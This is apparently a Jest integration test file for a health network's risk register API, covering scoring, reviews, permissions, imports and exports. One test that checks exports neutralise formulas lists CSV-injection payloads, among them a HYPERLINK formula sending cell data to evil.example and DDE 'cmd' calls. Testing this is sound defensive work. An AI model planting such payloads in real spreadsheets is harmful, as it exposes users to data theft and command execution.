import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { RiskDto } from '@plexus/contracts';
import { parseTimescale, todayIso } from '@plexus/domain';
import { WorkItem, WorkPlan, WorkPlanTheme } from '@plexus/server';
import { Workbook } from 'exceljs';
import { parseDelimited } from '@plexus/server';
import { worksheetXml, xlsxBook } from '../../libs/server/src/lib/table/testing/xlsx-book';
import { createTestDatabase, HttpClient, newNetwork, startApi, type Fixture, type TestApi, type TestDatabase } from '../support/harness';

const SEED_001 = readFileSync(resolve(__dirname, '../fixtures/risk/seed-001-register.csv'));

function upload(bytes: Buffer | string, name = 'register.csv', type = 'text/csv'): FormData {
  const form = new FormData();
  form.append('file', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }), name);
  return form;
}

const base = {
  dateRegistered: '2026-01-10',
  identifiedBy: 'Network board',
  description: 'Delays in transfer of spinal cord injuries',
  category: 'Access',
  likelihoodBefore: 4,
  impactBefore: 4,
  mitigation: 'Escalation protocol agreed with the SCC',
  likelihoodAfter: 3,
  impactAfter: 4,
  targetScore: 6,
  reviewFrequencyMonths: 3,
};

describe('risk register', () => {
  let db: TestDatabase;
  let api: TestApi;
  let a: Fixture;
  let manager: HttpClient;
  const url = '/api/networks/risk-a/risks';

  beforeAll(async () => {
    db = await createTestDatabase();
    api = await startApi(db);
    a = await newNetwork(api.db, 'risk-a');
    manager = await new HttpClient(api.url).login(a.users.manager.email);
  });
  afterAll(async () => {
    await api?.close();
    await db?.drop();
  });

  it('registers a risk with the next reference, its scores, bands and a first history point', async () => {
    const res = await manager.post(url, { ...base, mitigationLeadUserId: a.users.lead.id });
    expect(res.status).toBe(201);
    const risk = res.body as RiskDto;
    expect(risk.reference).toBe('RR/01');
    expect(risk.before).toMatchObject({ likelihood: 4, impact: 4, score: 16, band: 'extreme', legacy: null });
    expect(risk.current).toMatchObject({ score: 12, band: 'high' });
    expect(risk.mitigationLead).toEqual({ userId: a.users.lead.id, name: a.users.lead.displayName });
    expect(risk.nextReviewDue).toBe('2026-04-10');
    expect(risk.history).toEqual([expect.objectContaining({ on: '2026-01-10', source: 'registered' })]);
    expect(risk.can).toEqual({ edit: true, review: true });
  });

  it('names the bad field: likelihood 6, impact 0, a future date, a stranger as lead', async () => {
    const bad = await manager.post(url, { ...base, likelihoodBefore: 6, impactAfter: 0, description: '' });
    expect(bad.status).toBe(400);
    expect(bad.body.fields.map((f: { field: string }) => f.field).sort()).toEqual(['description', 'impactAfter', 'likelihoodBefore']);
    expect(bad.body.fields.find((f: { field: string }) => f.field === 'likelihoodBefore').message).toBe(
      'The likelihood before mitigation must be from 1 to 5',
    );
    const future = await manager.post(url, { ...base, dateRegistered: '2999-01-01' });
    expect(future.body.fields[0]).toEqual({ field: 'dateRegistered', message: 'The date registered cannot be in the future' });
    const notADate = await manager.post(url, { ...base, dateRegistered: '2026-02-30' });
    expect(notADate.body.fields[0].field).toBe('dateRegistered');
    const stranger = await manager.post(url, { ...base, mitigationLeadUserId: '00000000-0000-4000-8000-000000000000' });
    expect(stranger.body.fields[0].field).toBe('mitigationLeadUserId');
  });

  it('never gives two risks created at once the same reference, and never reuses one', async () => {
    const created = await Promise.all(Array.from({ length: 12 }, (_, i) => manager.post(url, { ...base, description: `Concurrent ${i}` })));
    expect(created.every((r) => r.status === 201)).toBe(true);
    const refs = created.map((r) => r.body.reference);
    expect(new Set(refs).size).toBe(12);
    // Closing a risk does not free its number.
    await manager.post(`${url}/${created[0].body.id}/close`, { closedOn: '2026-01-11', reason: 'Resolved' });
    const next = await manager.post(url, { ...base, description: 'After closing' });
    expect(next.body.reference).toBe('RR/14');
  });

  it('records a review down a band, keeps every score change, and moves the next review date', async () => {
    const risk = (await manager.post(url, { ...base, description: 'To review' })).body as RiskDto;
    const early = await manager.post(`${url}/${risk.id}/reviews`, { reviewedOn: '2026-01-01', likelihood: 2, impact: 3 });
    expect(early.status).toBe(400);
    expect(early.body.fields[0]).toEqual({ field: 'reviewedOn', message: 'The review date cannot be before the risk was registered (2026-01-10)' });
    const reviewed = await manager.post(`${url}/${risk.id}/reviews`, {
      reviewedOn: '2026-02-01',
      likelihood: 2,
      impact: 3,
      notes: 'Protocol working',
    });
    expect(reviewed.status).toBe(201);
    const after = reviewed.body as RiskDto;
    expect(after.current).toMatchObject({ likelihood: 2, impact: 3, score: 6, band: 'medium' });
    expect(after.before.score).toBe(16);
    expect(after.lastReviewedOn).toBe('2026-02-01');
    expect(after.nextReviewDue).toBe('2026-05-01');
    expect(after.reviews[0]).toMatchObject({
      reviewedOn: '2026-02-01',
      score: 6,
      band: 'medium',
      notes: 'Protocol working',
      reviewer: { name: a.users.manager.displayName },
    });
    expect(after.history.map((h) => [h.source, h.current.score])).toEqual([
      ['registered', 12],
      ['reviewed', 6],
    ]);
    const trail = await manager.get(`/api/networks/risk-a/audit?entityType=risk&entityId=${risk.id}`);
    expect(trail.body.items[0].changes.likelihoodAfter).toEqual({ from: 3, to: 2 });
  });

  it('lets leads review only the risks they lead, and nobody but managers edit', async () => {
    const theirs = (await manager.post(url, { ...base, description: 'Led by the lead', mitigationLeadUserId: a.users.lead.id })).body as RiskDto;
    const other = (await manager.post(url, { ...base, description: 'Led by nobody' })).body as RiskDto;
    const lead = await new HttpClient(api.url).login(a.users.lead.email);
    expect((await lead.get(`${url}/${theirs.id}`)).body.can).toEqual({ edit: false, review: true });
    expect((await lead.post(`${url}/${theirs.id}/reviews`, { reviewedOn: todayIso(), likelihood: 1, impact: 2 })).status).toBe(201);
    expect((await lead.post(`${url}/${other.id}/reviews`, { reviewedOn: todayIso(), likelihood: 1, impact: 2 })).status).toBe(403);
    expect((await lead.put(`${url}/${theirs.id}`, { ...base, version: 1 })).status).toBe(403);
    const viewer = await new HttpClient(api.url).login(a.users.viewer.email);
    expect((await viewer.post(url, base)).status).toBe(403);
    expect((await viewer.post(`${url}/${theirs.id}/reviews`, { reviewedOn: todayIso(), likelihood: 1, impact: 2 })).status).toBe(403);
    expect((await viewer.get(url)).status).toBe(200);
  });

  it('edits with a version check, closes and re-opens', async () => {
    const risk = (await manager.post(url, { ...base, description: 'Edit me' })).body as RiskDto;
    const edited = await manager.put(`${url}/${risk.id}`, { ...base, description: 'Edited', impactBefore: 5, version: risk.version });
    expect(edited.status).toBe(200);
    expect(edited.body.before.score).toBe(20);
    expect(edited.body.history.map((h: { source: string }) => h.source)).toEqual(['registered', 'edited']);
    const stale = await manager.put(`${url}/${risk.id}`, { ...base, version: risk.version });
    expect(stale.status).toBe(409);
    const closed = await manager.post(`${url}/${risk.id}/close`, { closedOn: '2026-01-09', reason: 'x' });
    expect(closed.body.fields[0].field).toBe('closedOn');
    const ok = await manager.post(`${url}/${risk.id}/close`, { closedOn: '2026-01-12', reason: 'Mitigated fully' });
    expect(ok.body).toMatchObject({ status: 'closed', closedOn: '2026-01-12', closedReason: 'Mitigated fully' });
    expect((await manager.get(url)).body.find((r: { id: string }) => r.id === risk.id)).toBeUndefined();
    expect((await manager.get(`${url}?status=closed`)).body.map((r: { id: string }) => r.id)).toContain(risk.id);
    expect((await manager.post(`${url}/${risk.id}/reopen`)).body.status).toBe('open');
  });

  it('filters, sorts, flags overdue reviews, and draws the heat map', async () => {
    const overdue = (
      await manager.post(url, { ...base, description: 'Overdue one', nextReviewDue: '2026-01-20', likelihoodAfter: 5, impactAfter: 5 })
    ).body as RiskDto;
    expect(overdue.overdue).toBe(todayIso() > '2026-01-20');
    const list = (await manager.get(`${url}?overdue=true`)).body as Array<{ id: string }>;
    expect(list.map((r) => r.id)).toContain(overdue.id);
    const extreme = (await manager.get(`${url}?band=extreme`)).body as Array<{ current: { band: string } }>;
    expect(extreme.length).toBeGreaterThan(0);
    expect(extreme.every((r) => r.current.band === 'extreme')).toBe(true);
    const byScore = (await manager.get(`${url}?sort=score&direction=desc`)).body as Array<{ current: { score: number } }>;
    expect(byScore[0].current.score).toBe(25);
    expect((await manager.get(`${url}?band=purple`)).status).toBe(400);

    const map = (await manager.get(`${url}/heat-map`)).body;
    const cell = map.current[5 - 5][5 - 1];
    expect(cell).toMatchObject({ likelihood: 5, impact: 5, score: 25, band: 'extreme' });
    expect(cell.riskIds).toContain(overdue.id);
    const inCell = (await manager.get(`${url}?cell=5,5`)).body as Array<{ id: string }>;
    expect(inCell.map((r) => r.id)).toEqual(cell.riskIds);
  });

  it('imports seed 001’s register with its legacy scores flagged, all or nothing', async () => {
    const spinal = await newNetwork(api.db, 'risk-spinal');
    const sm = await new HttpClient(api.url).login(spinal.users.manager.email);
    const preview = await sm.request('POST', '/api/networks/risk-spinal/risks/import/preview', upload(SEED_001));
    expect(preview.status).toBe(200);
    expect(preview.body.ok).toBe(true);
    expect(preview.body.rows).toHaveLength(5);
    const sn02 = preview.body.rows[1];
    expect(sn02.reference).toBe('SN/02');
    expect(sn02.warnings.map((w: { message: string }) => w.message).join(' ')).toMatch(/Legacy score 7/);
    expect((await sm.get('/api/networks/risk-spinal/risks')).body).toEqual([]); // the preview saved nothing

    const done = await sm.request('POST', '/api/networks/risk-spinal/risks/import', upload(SEED_001));
    expect(done.status).toBe(201);
    expect(done.body.references).toEqual(['SN/01', 'SN/02', 'SN/03', 'SN/04', 'SN/05']);
    const risks = (await sm.get('/api/networks/risk-spinal/risks')).body;
    const r2 = risks.find((r: { reference: string }) => r.reference === 'SN/02');
    expect(r2.before).toMatchObject({ score: 7, band: 'high', likelihood: null });
    expect(r2.before.legacy.reason).toMatch(/not likelihood × impact/);
    expect(r2.current).toMatchObject({ score: 5, likelihood: null });
    expect(r2.dateRegistered).toBe('2016-03-22');
    // New risks continue after the imported numbers; the same file again is refused whole.
    const again = await sm.request('POST', '/api/networks/risk-spinal/risks/import', upload(SEED_001));
    expect(again.status).toBe(400);
    expect(again.body.fields).toHaveLength(5);
    expect(again.body.fields[0].field).toBe('rows.1.reference');
    expect((await sm.get('/api/networks/risk-spinal/risks')).body).toHaveLength(5);
  });

  it('reports every bad row of a mixed file and imports none of it', async () => {
    const mixed = [
      'Description,Date registered,Likelihood before mitigation,Impact before mitigation,Status',
      'Good risk,2026-01-02,3,3,Open',
      ',2026-01-02,3,3,Open',
      'Bad likelihood,2026-01-02,6,3,Open',
      'Bad date,31/02/2026,2,2,Open',
      'Half a pair,2026-01-02,2,,Open',
      'Odd status,2026-01-02,2,2,Pending',
    ].join('\n');
    const preview = await manager.request('POST', `${url}/import/preview`, upload(mixed));
    expect(preview.body.ok).toBe(false);
    expect(preview.body.rows.map((r: { problems: Array<{ field: string }> }) => r.problems.map((p) => p.field))).toEqual([
      [],
      ['description'],
      ['likelihoodBefore'],
      ['dateRegistered'],
      ['impactBefore'],
      ['status'],
    ]);
    const before = (await manager.get(`${url}?status=all`)).body.length;
    const res = await manager.request('POST', `${url}/import`, upload(mixed));
    expect(res.status).toBe(400);
    expect(res.body.fields.map((f: { field: string }) => f.field)).toEqual([
      'rows.2.description',
      'rows.3.likelihoodBefore',
      'rows.4.dateRegistered',
      'rows.5.impactBefore',
      'rows.6.status',
    ]);
    expect((await manager.get(`${url}?status=all`)).body.length).toBe(before);
    const noHeader = await manager.request('POST', `${url}/import/preview`, upload('just,some,words\n1,2,3'));
    expect(noHeader.body.fileProblems[0]).toMatch(/No "Description" column/);
    const none = await manager.request('POST', `${url}/import/preview`, new FormData());
    expect(none.body.fields[0].field).toBe('file');
  });

  it('sets an imported risk’s next review by whole months, clamped to the month’s end', async () => {
    const target = await newNetwork(api.db, 'risk-months');
    const tm = await new HttpClient(api.url).login(target.users.manager.email);
    const file =
      'Description,Date registered,Likelihood before mitigation,Impact before mitigation,Review frequency (months)\nMonth end,2026-01-31,2,2,1';
    expect((await tm.request('POST', '/api/networks/risk-months/risks/import', upload(file))).status).toBe(201);
    expect((await tm.get('/api/networks/risk-months/risks')).body[0].nextReviewDue).toBe('2026-02-28');
  });

  it('links a risk to the work items that mitigate it, only within the network', async () => {
    const item = await api.db.inNetwork({ userId: null, networkId: a.network.id }, async ({ em }) => {
      const plan = Object.assign(new WorkPlan(), {
        networkId: a.network.id,
        title: 'Plan 2026/27',
        periodStart: '2026-04-01',
        periodEnd: '2027-03-31',
      });
      const theme = Object.assign(new WorkPlanTheme(), { networkId: a.network.id, planId: plan.id, title: 'Quality' });
      const timescale = parseTimescale('Q4 2026/27');
      const w = Object.assign(new WorkItem(), {
        networkId: a.network.id,
        planId: plan.id,
        themeId: theme.id,
        work: 'Escalation protocol with the SCC',
        timescaleText: 'Q4 2026/27',
        timescale,
        dueOn: timescale.due,
        originalTimescaleText: 'Q4 2026/27',
        originalDueOn: timescale.due,
      });
      em.persist([plan, theme, w]);
      await em.flush();
      return w;
    });
    const created = await manager.post(url, { ...base, description: 'Linked', linkedWorkItemIds: [item.id] });
    expect(created.status).toBe(201);
    expect(created.body.linkedWorkItems).toEqual([
      { id: item.id, planId: item.planId, planTitle: 'Plan 2026/27', work: 'Escalation protocol with the SCC', status: 'not_started' },
    ]);
    const unlinked = await manager.put(`${url}/${created.body.id}`, {
      ...base,
      description: 'Linked',
      version: created.body.version,
      linkedWorkItemIds: [],
    });
    expect(unlinked.body.linkedWorkItems).toEqual([]);
    const stranger = await manager.post(url, { ...base, linkedWorkItemIds: ['00000000-0000-4000-8000-000000000000'] });
    expect(stranger.body.fields[0]).toEqual({ field: 'linkedWorkItemIds.0', message: 'That work item is not in this network’s work plans' });
    const other = await newNetwork(api.db, 'risk-links-b');
    const om = await new HttpClient(api.url).login(other.users.manager.email);
    const foreign = await om.post('/api/networks/risk-links-b/risks', { ...base, linkedWorkItemIds: [item.id] });
    expect(foreign.status).toBe(400);
  });

  it('exports to .xlsx and CSV, and the CSV re-imports to the same register', async () => {
    const xlsx = await manager.get(`${url}/export?format=xlsx`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-disposition')).toMatch(/risk-a-risk-register\.xlsx/);
    const csvRes = await fetch(`${api.url}${url}/export?format=csv`, { headers: { cookie: `plexus_session=${manager.cookie('plexus_session')}` } });
    const csv = Buffer.from(await csvRes.arrayBuffer());
    const xlsxRes = await fetch(`${api.url}${url}/export?format=xlsx`, { headers: { cookie: `plexus_session=${manager.cookie('plexus_session')}` } });
    const xlsxBytes = Buffer.from(await xlsxRes.arrayBuffer());
    expect(xlsxBytes.subarray(0, 2).toString()).toBe('PK');

    const copy = await newNetwork(api.db, 'risk-copy');
    const cm = await new HttpClient(api.url).login(copy.users.manager.email);
    for (const [bytes, name] of [
      [csv, 'register.csv'],
      [xlsxBytes, 'register.xlsx'],
    ] as const) {
      const target = name.endsWith('csv') ? copy : await newNetwork(api.db, 'risk-copy-x');
      const client = name.endsWith('csv') ? cm : await new HttpClient(api.url).login(target.users.manager.email);
      const res = await client.request('POST', `/api/networks/${target.network.slug}/risks/import`, upload(bytes, name));
      expect({ name, status: res.status, body: res.status === 201 ? 'ok' : res.body }).toEqual({ name, status: 201, body: 'ok' });
      const strip = (rows: Array<Record<string, unknown>>) =>
        rows
          .map((r) => ({
            reference: r['reference'],
            status: r['status'],
            description: r['description'],
            before: r['before'],
            current: r['current'],
            nextReviewDue: r['nextReviewDue'],
            dateRegistered: r['dateRegistered'],
            targetScore: r['targetScore'],
          }))
          .sort((x, y) => String(x.reference).localeCompare(String(y.reference)));
      const original = strip((await manager.get(`${url}?status=all`)).body);
      const copied = strip((await client.get(`/api/networks/${target.network.slug}/risks?status=all`)).body);
      expect(copied).toEqual(original);
    }
  });
  it('neutralises every formula-like cell in the CSV and Excel exports, and imports them back as written', async () => {
    const source = await newNetwork(api.db, 'risk-formula');
    const sm = await new HttpClient(api.url).login(source.users.manager.email);
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click here")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(A1:A2)'];
    for (const description of hostile) {
      expect(
        (await sm.post('/api/networks/risk-formula/risks', { ...base, description, mitigation: '-escalate', identifiedBy: '@board' })).status,
      ).toBe(201);
    }
    const get = async (format: 'csv' | 'xlsx') =>
      Buffer.from(
        await (
          await fetch(`${api.url}/api/networks/risk-formula/risks/export?format=${format}`, {
            headers: { cookie: `plexus_session=${sm.cookie('plexus_session')}` },
          })
        ).arrayBuffer(),
      );
    const formulaLike = /^[=+\-@\t\r]/;

    const csv = await get('csv');
    const rows = parseDelimited(csv.toString('utf8').replace(/^\uFEFF/, ''), ',');
    const description = rows[0].indexOf('Description');
    expect(
      rows
        .slice(1)
        .map((r) => r[description])
        .sort(),
    ).toEqual(hostile.map((h) => `'${h}`).sort());
    expect(rows.flat().filter((cell) => formulaLike.test(cell))).toEqual([]);

    const xlsx = await get('xlsx');
    const book = new Workbook();
    await book.xlsx.load(xlsx as unknown as ArrayBuffer);
    const cells: string[] = [];
    book.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value))));
    expect(cells.filter((cell) => formulaLike.test(cell))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([...hostile.map((h) => `'${h}`), "'-escalate", "'@board"]));

    for (const [bytes, name] of [
      [csv, 'register.csv'],
      [xlsx, 'register.xlsx'],
    ] as const) {
      const target = await newNetwork(api.db, `risk-formula-${name.split('.')[1]}`);
      const tm = await new HttpClient(api.url).login(target.users.manager.email);
      expect((await tm.request('POST', `/api/networks/${target.network.slug}/risks/import`, upload(bytes, name))).status).toBe(201);
      const copied = (await tm.get(`/api/networks/${target.network.slug}/risks`)).body as Array<{ id: string; description: string }>;
      expect(copied.map((r) => r.description).sort()).toEqual([...hostile].sort());
      const one = (await tm.get(`/api/networks/${target.network.slug}/risks/${copied[0].id}`)).body as RiskDto;
      expect([one.mitigation, one.identifiedBy]).toEqual(['-escalate', '@board']);
    }
  });

  it('reads registers the way every import does: the sheet with the table, the header under a title, UTF-16 text', async () => {
    const target = await newNetwork(api.db, 'risk-reader');
    const tm = await new HttpClient(api.url).login(target.users.manager.email);
    const book = xlsxBook({
      sheets: [
        { name: 'Read me', xml: worksheetXml([['How to use this register'], ['Score = likelihood × impact']]) },
        {
          name: 'Register',
          xml: worksheetXml([
            ['Spinal network risk register, March 2026'],
            [],
            ['Description', 'Date registered', 'Likelihood before mitigation', 'Impact before mitigation'],
            ['Delayed transfers to the SCC', '2026-01-10', 4, 4],
          ]),
        },
      ],
    });
    const fromXlsx = await tm.request('POST', '/api/networks/risk-reader/risks/import/preview', upload(Buffer.from(book), 'register.xlsx'));
    expect(fromXlsx.status).toBe(200);
    expect(fromXlsx.body).toMatchObject({ ok: true, rows: [{ row: 1, description: 'Delayed transfers to the SCC', problems: [] }] });
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(
        'Description\tDate registered\tLikelihood before mitigation\tImpact before mitigation\r\nCafé staff cover – rehab\t2026-01-10\t2\t3\r\n',
        'utf16le',
      ),
    ]);
    const imported = await tm.request('POST', '/api/networks/risk-reader/risks/import', upload(utf16, 'register.txt', 'text/plain'));
    expect(imported.status).toBe(201);
    expect((await tm.get('/api/networks/risk-reader/risks')).body.map((r: { description: string }) => r.description)).toEqual([
      'Café staff cover – rehab',
    ]);
  });
});
